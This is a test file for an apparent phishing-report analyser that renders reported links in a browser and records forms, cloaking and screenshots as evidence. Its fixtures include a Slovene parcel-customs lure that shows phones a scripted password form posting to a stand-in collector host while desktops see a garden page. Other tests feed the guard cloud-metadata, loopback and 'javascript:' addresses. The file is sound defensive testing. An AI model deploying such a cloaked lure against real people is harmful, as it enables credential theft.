"""A report's page is opened in a browser; what it hides from some is evidence, and so is silence."""

import asyncio
from datetime import UTC, datetime
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import pytest
from msgspec import structs

from tests.assess.message import message
from tests.assess.stored import context, row, stored
from tests.collect.render.site import Request, Site, serving
from tests.store.world import own_party
from zvon.collect import render_page
from zvon.collect.look_page import fetch_pages
from zvon.collect.render.process import NoBrowser
from zvon.collect.render_page import render_pages
from zvon.jobs import Context
from zvon.model.evidence import Evidence, EvidenceCode
from zvon.model.page import Asked, Capture, Outcome, Vantage
from zvon.store import capture, evidence, evidence_file
from zvon.store.transaction import Pool
from zvon.store.visibility import SYSTEM, read

AT = datetime(2026, 11, 22, 10, 0, tzinfo=UTC)
KEY = bytes(range(32))
FLOWERS = (
    "<h1>Vrtnarija Lipa</h1>" + "<p>Rože sadimo spomladi in jih zalivamo zvečer ob potoku." * 6
)
LURE = b"""<!doctype html><html lang=sl><title>Lipa banka</title>
<meta name=viewport content="width=device-width"><h1>Dostava paketa</h1>
<p>Vas paket caka na placilo carine. Vpisite podatke, da ga lahko dostavimo na vas naslov.</p>
<div id=x></div><script>setTimeout(()=>{x.innerHTML=
'<form action="https://zbiralec.example/z"><input name=u><input type=password></form>'},200)</script>"""
LOGIN = """<!doctype html><html lang=sl><title>Lipa banka</title>
<meta name=viewport content="width=device-width"><style>@media(max-width:600px){aside{display:none}}
</style><h1>Prijava</h1><form action=/in method=post><input name=user><input type=password></form>
<aside>Novice: obrestne mere, poslovalnice, delovni čas in pogosta vprašanja naših strank.</aside>"""


def cloaked(request: Request) -> bytes:
    """Phones get the lure, everybody else flowers."""
    if "Mobile" in request.headers.get("user-agent", ""):
        return LURE
    return f"<!doctype html><html lang=sl><title>Vrtnarija</title>{FLOWERS}".encode()


def working(pool: Pool, at: datetime = AT, **settings: Any) -> Context:
    node = cast(Any, SimpleNamespace(key=KEY))
    return structs.replace(context(pool, lambda: at, **settings), node=node)


async def report(pool: Pool) -> int:
    return await stored(pool, AT, message("Vaš paket čaka: https://www.lipa.example/a"))


async def rows(pool: Pool, record_id: int) -> list[Evidence]:
    async with read(pool, SYSTEM) as db:
        return await evidence.of_record(db, record_id)


async def looks(pool: Pool, record_id: int) -> list[Capture]:
    async with read(pool, SYSTEM) as db:
        return [each for each in await capture.of_record(db, record_id) if each.stage == 4]


async def waiting(pool: Pool, job: str) -> int:
    (count,) = await row(pool, "select count(*) from pgqueuer where entrypoint = %s", job)
    return int(count)


def skip_without_browser(seen: list[Capture]) -> None:
    if seen and seen[0].outcome is Outcome.UNAVAILABLE:
        from tests.collect.render.conftest import no_browser

        no_browser(NoBrowser(seen[0].reason))


async def look(pool: Pool, record_id: int, site: Site, path: str = "/", **more: Any) -> None:
    payload = {"record_id": record_id, "urls": [site.url(path)], **more}
    await render_pages(working(pool), payload, guard=site.guard())


@pytest.mark.browser
async def test_a_kit_that_cloaks_and_scripts_its_form_is_seen_through(pool: Pool) -> None:
    await own_party(pool, AT)
    record_id = await report(pool)
    async with serving({"/": cloaked}) as site:
        payload = {"record_id": record_id, "urls": [site.url()]}
        await fetch_pages(working(pool), payload, guard=site.guard())
        before = await rows(pool, record_id)
        assert EvidenceCode.FORM not in {each.code for each in before}
        await render_pages(working(pool), payload, guard=site.guard())
    seen = await looks(pool, record_id)
    skip_without_browser(seen)
    assert [(each.vantage, each.outcome) for each in seen] == [
        (Vantage.PHONE, Outcome.SEEN), (Vantage.DESKTOP, Outcome.SEEN)]  # fmt: skip
    phone, desktop = seen
    assert phone.facts is not None
    assert desktop.facts is not None
    assert Asked.PASSWORD in {kind for form in phone.facts.forms for kind in form.asks}
    assert "Vrtnarija" in desktop.facts.text
    assert "zbiralec" not in desktop.facts.text
    found = [each for each in await rows(pool, record_id) if each.stage == 4]
    told = {(each.code, each.value) for each in found}
    assert (EvidenceCode.FORM, "password") in told
    assert (EvidenceCode.FORM_TARGET, "zbiralec.example") in told
    cloaks = {(each.value, each.params["vantage"], each.params["hidden_from"])
              for each in found if each.code is EvidenceCode.CLOAK}  # fmt: skip
    assert ("form", "phone", "desktop") in cloaks
    assert phone.screenshot is not None
    assert (EvidenceCode.SCREENSHOT, phone.screenshot) in told
    assert (EvidenceCode.LOOK, f"{phone.phash:016x}") in told
    assert phone.html is not None
    async with read(pool, SYSTEM) as db:
        picture = await evidence_file.get(db, KEY, bytes.fromhex(phone.screenshot))
        page = await evidence_file.get(db, KEY, bytes.fromhex(phone.html))
    assert picture.body.startswith(b"\x89PNG")
    assert b'type="password"' in page.body
    assert await waiting(pool, "assess.report") == 2  # after the fetch, and after the browser


@pytest.mark.browser
async def test_a_login_page_that_adapts_to_telephones_hides_nothing(pool: Pool) -> None:
    await own_party(pool, AT)
    record_id = await report(pool)
    async with serving({"/": LOGIN.encode()}) as site:
        await look(pool, record_id, site)
    skip_without_browser(await looks(pool, record_id))
    codes = [each.code for each in await rows(pool, record_id)]
    assert EvidenceCode.CLOAK not in codes
    assert EvidenceCode.FORM in codes


@pytest.mark.browser
async def test_a_look_serves_other_reports_until_it_is_asked_for_anew(pool: Pool) -> None:
    await own_party(pool, AT)
    first, second, third = [await report(pool) for _ in range(3)]
    async with serving({"/": LOGIN.encode()}) as site:
        await look(pool, first, site)
        skip_without_browser(await looks(pool, first))
        asked = len(site.asked)
        await look(pool, second, site)
        assert len(site.asked) == asked
        await look(pool, second, site)
        await look(pool, third, site, look=1)
        assert len(site.asked) > asked
    one, two = await looks(pool, first), await looks(pool, second)
    assert [structs.replace(each, uuid=None) for each in one] == [
        structs.replace(each, uuid=None) for each in two]  # fmt: skip
    assert {(e.code, e.value) for e in await rows(pool, first)} == {
        (e.code, e.value) for e in await rows(pool, second)}  # fmt: skip


async def test_without_a_browser_the_stage_says_so_and_the_report_goes_on(
    pool: Pool, tmp_path: Path
) -> None:
    await own_party(pool, AT)
    record_id = await report(pool)
    async with serving({}) as site:
        job = working(pool, chromium=tmp_path / "none")
        await render_pages(job, {"record_id": record_id, "urls": [site.url()]}, guard=site.guard())
    (seen,) = await looks(pool, record_id)
    assert (seen.outcome, seen.reason) == (Outcome.UNAVAILABLE, "missing")
    (told,) = await rows(pool, record_id)
    assert (told.code, told.value, told.stage) == (EvidenceCode.NO_BROWSER, "missing", 4)
    assert await waiting(pool, "assess.report") == 1


async def test_what_the_guard_refuses_starts_no_browser(pool: Pool, tmp_path: Path) -> None:
    await own_party(pool, AT)
    record_id = await report(pool)
    job = working(pool, chromium=tmp_path / "none", resolver="127.0.0.1:1")
    for url in ("http://127.0.0.1/", "http://169.254.169.254/latest/", "http://[::1]/"):
        await render_pages(job, {"record_id": record_id, "urls": [url]})
    assert [(each.outcome, each.reason) for each in await looks(pool, record_id)] == [
        (Outcome.REFUSED, "loopback"), (Outcome.REFUSED, "metadata"), (Outcome.REFUSED, "loopback"),
    ]  # fmt: skip
    assert {each.code for each in await rows(pool, record_id)} == {EvidenceCode.REFUSED}


async def test_the_operator_can_switch_the_browser_off(pool: Pool) -> None:
    await own_party(pool, AT)
    record_id = await report(pool)
    job = working(pool, render=False)
    await render_pages(job, {"record_id": record_id, "urls": ["http://127.0.0.1/"]})
    assert await looks(pool, record_id) == []
    assert await waiting(pool, "assess.report") == 0


async def test_each_address_gets_a_job_of_its_own_and_bad_ones_none(pool: Pool) -> None:
    await own_party(pool, AT)
    record_id = await report(pool)
    urls = [
        "javascript:alert(1)",
        "http://127.0.0.1/a",
        "http://127.0.0.1/a#x",
        "http://127.0.0.1/b",
    ]
    await render_pages(working(pool), {"record_id": record_id, "urls": urls})
    assert [each.url for each in await looks(pool, record_id)] == ["http://127.0.0.1/a"]
    (payload,) = await row(pool, "select payload from pgqueuer where entrypoint = 'collect.render'")
    assert b"http://127.0.0.1/b" in bytes(payload)
    assert b"http://127.0.0.1/a" not in bytes(payload)


async def test_few_wait_for_the_browser_the_others_come_later(pool: Pool) -> None:
    await own_party(pool, AT)
    record_id = await report(pool)
    go = asyncio.Event()
    async with serving({}) as site:
        guard = site.guard()

        async def slow(_: str) -> tuple[str, ...]:
            await go.wait()
            return ()

        guard.resolve = slow
        jobs = [
            asyncio.create_task(
                render_pages(working(pool), {"record_id": record_id, "urls": [site.url(f"/{n}")]},
                             guard=guard)
            ) for n in range(render_page.MOST_JOBS + 2)
        ]  # fmt: skip
        async with asyncio.timeout(10):
            while await waiting(pool, "collect.render") < 2:
                await asyncio.sleep(0.05)
        go.set()
        await asyncio.gather(*jobs)
    assert len(await looks(pool, record_id)) == render_page.MOST_JOBS
    assert await waiting(pool, "collect.render") == 2
